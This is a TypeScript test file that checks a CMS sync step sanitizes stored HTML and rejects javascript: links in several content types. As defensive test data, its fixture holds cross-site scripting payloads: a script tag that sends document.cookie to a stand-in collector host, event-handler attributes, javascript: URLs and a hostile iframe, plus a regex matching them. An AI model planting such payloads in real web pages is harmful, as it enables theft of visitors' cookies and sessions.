// CMS HTML is sanitized once, at sync time, wherever it is stored.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { clearDb, CMS_URL, cmsRecord, ftsIds, resetCms, rows, syncOne, upsert } from './helpers.ts';

const HOSTILE = [
  '<p>Safe words here.</p>',
  '<script>fetch("https://collector.invalid/?c=" + document.cookie)</script>',
  '<img src="/uploads/x.png" alt="still" onerror="alert(1)">',
  '<a href="javascript:alert(document.domain)">Play</a>',
  '<a href="https://example.com/ok" onclick="steal()">Share</a>',
  '<iframe src="https://collector.invalid/frame"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc123"></iframe>',
  '<div style="background:url(javascript:alert(1))" onmouseover="x()">Box</div>',
].join('');

const UNSAFE = /<script|onerror|onclick|onmouseover|javascript:|collector\.invalid|style=/i;

beforeEach(async () => {
  await resetCms();
  await clearDb();
});
afterEach(() => resetCms());

describe('hostile HTML', () => {
  it('in the fixture blog post is stored sanitized, and its text has no code in it', async () => {
    await syncOne('blog-posts');
    const [post] = await rows<{ content_html: string; body_text: string }>('SELECT content_html, body_text FROM blog_posts WHERE slug = ?', 'embed-home-movies-on-a-family-website');
    expect(post!.content_html).not.toMatch(UNSAFE);
    expect(post!.content_html).not.toMatch(/<iframe/);
    expect(post!.content_html).toContain(`<img src="${CMS_URL}/uploads/does-not-exist.png" alt="Home movie still">`);
    expect(post!.content_html).toContain('<a href>Play the movie</a>');
    expect(post!.content_html).toContain('<a href="https://www.forever-memories.example/preserve-and-share">share button</a>');
    expect(post!.body_text).not.toMatch(/cookie|encodeURIComponent|</);
    expect(post!.body_text).toContain('The safe way is simpler');
    expect(await ftsIds('blog_posts_fts', 'cookie')).toEqual([]);
  });

  it('in p2p posts, sharing tips, press releases, FAQ answers and event sections is sanitized', async () => {
    await upsert('p-2-p-posts', { ...(await cmsRecord('/p-2-p-posts', 1)), content: HOSTILE });
    await upsert('p-2-p-sharing-tips', { id: 1, title: 'Credit the kit', body: HOSTILE, order: 1 });
    await upsert('press-releases', { ...(await cmsRecord('/press-releases', 1)), content: HOSTILE });
    const faq = await cmsRecord('/faqs', 1);
    await upsert('faqs', { ...faq, faq: [{ question: 'Q?', answer: HOSTILE }] });
    const event = await cmsRecord('/events', 3);
    await upsert('events', {
      ...event,
      sections: [
        { __component: 'event.info-card', title: 'Card', body: HOSTILE },
        { __component: 'event.cancellation', title: null, body: HOSTILE },
        { __component: 'event.faqs', title: null, items: [{ question: 'Q', answer: HOSTILE }] },
      ],
    });
    for (const c of ['p-2-p-posts', 'p-2-p-sharing-tips', 'press-releases', 'faqs', 'events']) {
      expect((await syncOne(c)).status, c).toBe('ok');
    }
    const stored = [
      ...(await rows<{ v: string }>('SELECT content_html AS v FROM p2p_posts WHERE id = 1')),
      ...(await rows<{ v: string }>('SELECT body_html AS v FROM p2p_sharing_tips WHERE id = 1')),
      ...(await rows<{ v: string }>('SELECT content_html AS v FROM press_releases WHERE id = 1')),
      ...(await rows<{ v: string }>('SELECT entries AS v FROM faqs WHERE id = 1')),
      ...(await rows<{ v: string }>('SELECT data AS v FROM event_sections WHERE event_id = 3')),
    ].map((r) => r.v);
    expect(stored).toHaveLength(7);
    for (const html of stored) {
      expect(html).toContain('Safe words here.');
      expect(html).not.toMatch(UNSAFE);
      // The YouTube player survives as a plain iframe.
      expect(html).toMatch(/<iframe src=\\?"https:\/\/www\.youtube\.com\/embed\/abc123\\?"/);
    }
    const [p2p] = await rows<{ body_text: string }>('SELECT body_text FROM p2p_posts WHERE id = 1');
    expect(p2p!.body_text).toBe('Safe words here. PlayShare Box');
  });
});

describe('unsafe links outside HTML', () => {
  it('fail the record instead of being stored', async () => {
    await syncOne('p-2-p-homepage-slides');
    const before = await rows('SELECT * FROM p2p_homepage_slides ORDER BY id');
    await upsert('p-2-p-homepage-slides', { id: 2, title: 'Bad', subtitle: '', link_url: 'javascript:alert(1)', image: null, order: 2, published_at: null });
    const result = await syncOne('p-2-p-homepage-slides');
    expect(result.status).toBe('error');
    expect(result.error).toMatch(/p-2-p-homepage-slides record id 2 .* link "javascript:alert\(1\)" must be http\(s\)/);
    expect(await rows('SELECT * FROM p2p_homepage_slides ORDER BY id')).toEqual(before);
  });
});
